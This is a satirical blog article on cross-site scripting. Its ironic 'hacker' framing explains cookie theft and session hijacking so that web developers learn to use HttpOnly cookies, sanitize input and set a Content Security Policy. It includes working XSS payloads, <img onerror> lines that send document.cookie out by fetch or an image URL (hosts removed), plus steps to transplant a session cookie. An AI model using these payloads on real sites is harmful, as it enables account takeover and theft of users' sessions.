Cross-site scripting for dummies

David Gilbertson
Oct 30, 2016 · 10 min read

First of all, I would like to state that my intentions with this are article are entirely dishonourable. I want to help hackers to break the law, illegally, and teach them how to use cross site scripting to steal user data and use it for the most nefarious of purposes.

If you happen to be a web developer and use the information below to improve the security of your website then I suppose there’s nothing I can do about that.

There’s a sucker born every minute (babies are dumb) and an insecure site is born even more frequently. You, my would-be hacker reader, just need to find a website that’s got a few simple things wrong. It’s like aligning pieces of Swiss cheese.

You have lined up pieces of Swiss cheese before, haven’t you? In Swiss folklore if you line up all the holes in slices of Swiss cheese (they call it cheese) and poke your finger through the hole, it will come out the other side. Their folklore is kinda shit, but by golly they’ve got some great mountains.

Where were we? (A little Matryoshka sentence.)

Ah yes, the search for a vulnerable website. The vulnerabilities are well known — and individually they are plentiful — but we need a site that does all these things:• Allows you to sign in with just a cookie
  • Sends the sensitive cookies insecurely
  • Allows user-defined text to be parsed without sanitizing
  • Allows sending data out to unknown domains

Let’s look at the no-no list one at a time…

A sitethat lets you sign in with a cookie

A lot of sites (um, 94% why not) will let you sign in with just a cookie. Which means you can take a cookie from one machine, move it to another and ‘sign in’ without knowing the user’s username or password. A webdeveloper could go to the trouble ofensuring a cookie only worked on the computer it was created on (by browser fingerprinting), but few do.

Let’s use reddit as an example and see if it will let us transport their cookie.

  1. Install the Chrome extension EditThisCookie, this will let you copy/set cookies (allow it in incognito mode).
  2. Head on over to and check out the cookies. To find the appropriate cookie, it’s a process of elimination. After 30 seconds you’ll see that you can delete everything but the one called reddit_session and remain logged in when you refresh. So we’ll copy the value of that cookie.

Now open an incognito window and go to Obviously you will not be logged in. Use the extension to add a new cookie called reddit_session and paste the value. Tick the boxes so that it matches the cookie you copied. In this case, HttpOnly and Secure.

Refresh the page. Boom, you’re logged in. No username, no password required.

This is not a security issue on it’s own, it’s how the world works, but if you can’t do this with a site there’s no point carrying on.

So our quest is clear: get our grubby little hands on some cookies. To access cookies on a target’s computer, all we need is JavaScript to read document.cookie, right?


Unfortunately, jerk-face security jerks have made it really simple for web developers to protect those cookies from JavaScript’s prying eyes. So we need to find …

A site that does not use HttpOnly cookies

When a pesky web developer sets a cookie and defines it as HttpOnly, it means that we, the friendly neighbourhood hackers, can’t access that cookie using document.cookie (a property with a setter that appends — that does my head in).

Obviously this sucks, but luckily there are still sites out there not setting HttpOnly on their cookies. Let’s hope they’renot reading this, amiright?!

(Remember, when you access document.cookie, you are accessing the cookies for the current document. That means if a user is on when you access document.cookie, you won’t see cookies for

I have faith that you’ve tracked down a site that leaves their cookies out in the open with their pants down, and that you can use these cookies to sign in on another machine. Next up, we need to find …

A site that allows user-defined data to be parsed

What do I mean by user-defined data? You’ll notice at the top of this very page, under my name, it says <script>alert('tsk tsk')</script>. This is text that I — a user of — defined. Everywhere you look on the web there is text created by other users (that’s kinda what web 2.0 was all about). It’s not just medium and facebook and yelp. When I look at my bank statement and see an entry for “Cook to impress the ladies - expert level lesson”, that is text defined by a third party, neither I nor the bank have control over it.

And what do I mean by parsed? There are two scenarios that result in HTML being parsed:

  1. If a web server sends <script>alert('tsk tsk')</script> in the HTML, the browser will parse (and therefore execute) that JavaScript (OK unless it’s in a textarea or something*).
  2. If a site writes text into the page client-side using element.innerHTML then it will be parsed (innerHTML is the hacker’s best friend). If they use element.textContent instead then it will not be parsed (booooo).

The good folk at Medium have no control over what I enter in that bio field, but unfortunately they’re savvy enough to know that any user-defined data should not be trusted, and never be parsed. So when they generate the HTML for this page on the server, they sanitize it, which means it looks likethis when delivered from the server: <script>alert('tsk tsk')</script> (you can see that in the source for this page). And when they render text client-side, they use textContent instead of innerHTML.


It should be easy enough to identify a site that has not taken these precautions. You can actually go looking for innerHTML like so:

  • Open the DevTools (I’ll assume Chrome, but the others will do)
  • Go to the network panel
  • Right click a js file and select Open in Sources panel
  • Click the pretty print {} icon down the bottom
  • Search for innerHTML
  • Work out what fires that code (adding a breakpoint might help — click the line number)

Or the less technical approach, just fill in all the fields you can (enter your profile details, post comments, write reviews, enter search terms, etc.) and wrap everything in <h1> tags. If your text is ever displayed without the “<h1>” visible (and probably in big font) then you know your text was parsed. The site has made a schoolboy error. Or schoolhuman error I suppose, in the interests of gender neutralizing centuries-oldidioms.

Don’t forget to check everywhere that text might be displayed. might have been clever enough to sanitize the ‘bio’ text in the header, but not in the custom tooltip when you hover your mouse over my picture.

You can see the difference between innerHTML and textContent in the below fiddle.

You might be wondering, “what if a site sets innerHTML, but they strip out <script> tags?”

The answer to that is: excellent!

Of all the terrible things that people do, being ‘well meaning’is by far the worst. Whether it’s letting someone in front of you in traffic even though you have right-of-way, telling someone that they will really enjoy going to a Celine Dion concert because you didn’t like her to start with either but she really grew on you, or writing a regex to remove script tags; it’s all misguided and borderline-dangerous. (Particularly the Celine Dion thing because once you get her, you’re hooked for life.)

While the well-meaning web developer is busy stripping out script tags, you can just use this instead: <img src=x onerror="alert('tsk tsk')">. That will, of course, try to load an image that doesn’t exist, fail, and then execute the onerror script. So go searching for people asking how to strip out script tags and pay their website a visit.

If you’ve made it this far, things are going swimmingly. You’ve found a site that leaves transportable cookies exposed to JavaScript and will parse and execute text that you give it. Now all you need is to get those cookies from the unsuspecting visitor’s computer into your dorito-dust-covered fingers.

For this last step we need …A site that does not have a CSP

A Content Security Policy is a real pain. It will block you from making requests to other domains from within the page. We can test this by pasting the following into the DevTools console:


You will see that on it gets blocked:

Image for post
Image for post
I’ve got a custom build of Chrome that plays sad-trombone on error.


You’ll see similar messages from,, although not from my bloody bank, as it turns out. There you will see something like this:

Image for post
Image for post
Waap waap waaaaaaaap.

This confirms that I was able tosend cookies to an unknown domain (in this case, which is a nice little site that can just mirror back whatever you send to it).

I should say, just because a site doesn’t have a content security policy, it doesn’t make it insecure (one in ten users won’t have it anyway), but for our purposes we require a site with no CSP.

On a whim (I ❤ whims), I wondered if medium would let me request an image from (rather than post to) an unknown source. As it turns out it does. So in this case it’s easy enough to get around the CSP by just requesting an image and appending the cookies as params.

<img src=x onerror="this.src = '//' + document.cookie">

As with previous examples, this image fails to load, then sets its own source, which is a real image so it doesn’t error again. The image is a pig.Image for post
Image for post
You’ve been pigged.

Wrapping it all up

Alrighty vegimity, assuming that you have lined up the pieces of Swiss cheese, you have managed to find a site where you can enter some text, have it parsed by another user’s browser, access the poor sucker’s unprotected cookies, send them off to your own domain, and use those to sign in as that person, all without their knowledge.

Of course you’re not just getting one person’s cookies, you’re harvesting them en masse.

Now just find a text field that will be visible to the maximum number of other users of that site (e.g. the bio field on medium) and enter something like this:

<img src=x onerror="fetch('//', {method: 'POST', body: document.cookie})">

If fetch() is blocked (this is covered by connect-src is the CSP), you can try the img URL approach (covered by the img-src directive in the CSP).

<img src=x onerror="this.src = '//' + document.cookie">

The URL should of course point to your own domain. I believe Iceland is lovely this time of year and has some nice anonymous domain hosting options.

With great hacking comes great responsibility

If you do manage to get someone’s credentials to, say, a social network, please be responsible. Don’t just post photos of your rude parts; have a little class. Make innocuous posts late at night that are the sorts of things they would say; they will begin to think they’re sleep-sharing. Start writing up-beat yelp reviews for late-night venues in their local area so they think they’re sleep-socializing, too. Naturally you will post Photoshopped photos of them having a great time and sneak into their house and put a little stamp on their wrist from the club in question.If you can get into an online shopping account, order them a book you think theymight enjoy, or Ayn Rand. Perhaps splash out and get something nice for their significant other — flowers or bathroom scales, something like that.

If you get into their technical question/answer site account you should go right ahead and answer questions tagged only as ‘JavaScript’ with solutions requiring jQuery. Suggest float: left for all CSS questions. Post an answer to a question about JavaScript closures in the form of an allegory involving only the cast of Sex in the City (“While shopping for frocks, Samantha told Charlotte about her lady feelings for Mr Big. She insisted that the secret should not be available to Carrie outside the changing rooms in which the secret was originally shared.”)

Thanks for reading, have a lovely day. Oh wait I’m not done. I should add that I know very little about security, I learnt most of what’s in this post while writing this post. Any feedback/corrections are most welcome. Feel free to be mean; I’m getting pretty good at not letting internet comments upset me, but I still need more practice.

* I just had an idea, HTML should have a <raw> tag, the contents of which is never parsed. It would have the execution behaviour of a <textarea> with the layout behaviour of a <span>.

Hacker Noon is how hackers start their afternoons. We’re a part of the @AMI family. We are now accepting submissions and happy to discuss advertising & sponsorship opportunities.

If you enjoyed this story, we recommend reading our latest tech stories and trending tech stories. Until next time, don’t take the realities of the world for granted!

Image for post
Image for post


Sign up for Get Better Tech Emails viahow hackers start their afternoons. the real shit is on Take a look

By signing up, you will create a Medium account if you don’t already have one. Review our Privacy Policy for more information about our privacy practices.

Check your inbox
Medium sent you an email at to complete your subscription.

David Gilbertson

Written by

I like web stuff.

Elijah McClain, George Floyd, Eric Garner, Breonna Taylor, Ahmaud Arbery, Michael Brown, Oscar Grant, Atatiana Jefferson, Tamir Rice, Bettie Jones, Botham Jean

David Gilbertson

Written byI like web stuff.

Elijah McClain, George Floyd, Eric Garner, Breonna Taylor, Ahmaud Arbery, Michael Brown, Oscar Grant, Atatiana Jefferson, Tamir Rice, Bettie Jones, Botham Jean

Medium is an open platform where 170 million readers come to find insightful and dynamic thinking. Here, expert and undiscovered voices alike dive into the heart of any topic and bring new ideas to the surface. Learn more

Follow the writers, publications, and topics that matter to you, and you’ll see them on your homepage and in your inbox. Explore

If you have a story to tell, knowledge to share, or a perspective to offer — welcome home. It’s easy and free to post your thinking on any topic. Write on Medium

Get the Medium app

A button that says 'Download on the AppStore', and if clicked it will lead you to the iOS App store
A button that says 'Get it on, GooglePlay', and if clicked it will lead youto the Google Play store